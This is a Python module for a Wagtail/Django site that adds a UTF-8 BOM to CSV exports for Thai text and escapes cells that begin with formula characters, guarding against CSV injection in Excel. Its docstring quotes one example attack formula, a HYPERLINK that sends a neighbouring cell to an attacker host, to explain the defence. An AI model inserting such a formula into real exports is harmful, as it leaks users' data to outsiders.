"""CSV exports that open safely in Excel with Thai intact: BOM, and no formula from the data.

Thai: Excel reads a CSV without a BOM in the machine's legacy code page, so Thai headings
and titles come out as mojibake; Wagtail's ``SpreadsheetExportMixin.write_csv_response``
writes no BOM. ``with_bom`` adds it, never a second one.

Formulas: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run by Excel as a formula, and page titles, owners' names, a visitor's User-Agent or Host
header are typed by people we do not trust (``=HYPERLINK("http://evil.example/?leak="&B2)``
sends the row next to it away). ``escape_cell`` is the one rule every CSV we produce
follows, OWASP's: such a text cell gets a leading ``'``. Numbers written as numbers (a
negative count of days) stay numbers; a text cell is escaped even when it looks like a
number (``-2+3`` is a formula, and telling the harmless ones apart is where such rules
break). The full-width forms of those characters are escaped too: Excel in East Asian
locales reads ``＝`` as ``=``.

Where: our listings and reports take ``ExcelCsvMixin`` (cells escaped as they are written,
types known); the traffic log export calls ``escape_cell`` itself; Wagtail's own reports
(site history, locked pages, workflows, aging pages) are views we do not subclass and
Wagtail offers no hook for their cells, so ``ExcelCsvMiddleware`` re-writes their
``?export=csv`` responses row by row, still streamed (every cell is text by then: a
negative number there would be escaped, and none of those reports has one).
"""

import codecs
import csv

from django.http import FileResponse

BOM = b"\xef\xbb\xbf"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
ESCAPED_FLAG = "_moit_csv_escaped"


def escape_cell(value):
    """``value`` as a CSV cell Excel will not run: text starting a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def escape_row(values):
    return [escape_cell(value) for value in values]


def _prefixed(chunks):
    chunks = iter(chunks)
    first = next(chunks, b"")
    yield first if first.startswith(BOM) else BOM + first
    yield from chunks


def with_bom(response):
    """Start the CSV ``response`` (streamed or not) with the UTF-8 BOM, once."""
    if response.streaming:
        response.streaming_content = _prefixed(response.streaming_content)
    elif not response.content.startswith(BOM):
        response.content = BOM + response.content
    response["Content-Type"] = CSV_CONTENT_TYPE
    return response


class _Line:
    def write(self, value):
        return value


def _lines(chunks):
    """Decoded lines of a byte stream, whatever its chunking (a BOM at the start dropped).

    Split on ``\n`` only: ``str.splitlines`` would also end a line at characters a cell may
    hold (``\x1c``, ``\u2028``...), cutting its row in two.
    """
    decoder = codecs.getincrementaldecoder("utf-8-sig")(errors="replace")
    rest = ""
    for chunk in chunks:
        *lines, rest = (rest + decoder.decode(chunk)).split("\n")
        for line in lines:
            yield line + "\n"
    rest += decoder.decode(b"", final=True)
    if rest:
        yield rest


def escaped_csv(chunks):
    """Re-writes a CSV byte stream with every cell through ``escape_cell``, row by row."""
    writer = csv.writer(_Line())
    for row in csv.reader(_lines(chunks)):
        yield writer.writerow(escape_row(row)).encode()


def escape_formulas(response):
    """The CSV ``response`` (streamed or not) with its cells escaped, once."""
    if getattr(response, ESCAPED_FLAG, False):
        return response
    if response.streaming:
        response.streaming_content = escaped_csv(response.streaming_content)
    else:
        response.content = b"".join(escaped_csv([response.content]))
    setattr(response, ESCAPED_FLAG, True)
    return response


class ExcelCsvMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin``: a BOM, and its cells escaped."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return escape_cell(value) if export_format == self.FORMAT_CSV else value

    def get_heading(self, queryset, field):
        return escape_cell(super().get_heading(queryset, field))

    def write_csv_response(self, queryset):
        response = with_bom(super().write_csv_response(queryset))
        setattr(response, ESCAPED_FLAG, True)
        return response


def is_spreadsheet_export(request, response):
    """A ``?export=csv`` answer of a Wagtail listing, not a CSV file someone uploaded."""
    return (
        request.GET.get("export") == "csv"
        and response.get("Content-Type", "").startswith("text/csv")
        and not isinstance(response, FileResponse)
    )


class ExcelCsvMiddleware:
    """Escapes and adds the BOM to the CSV exports of Wagtail's own reports (see above)."""

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        response = self.get_response(request)
        if is_spreadsheet_export(request, response):
            with_bom(escape_formulas(response))
        return response
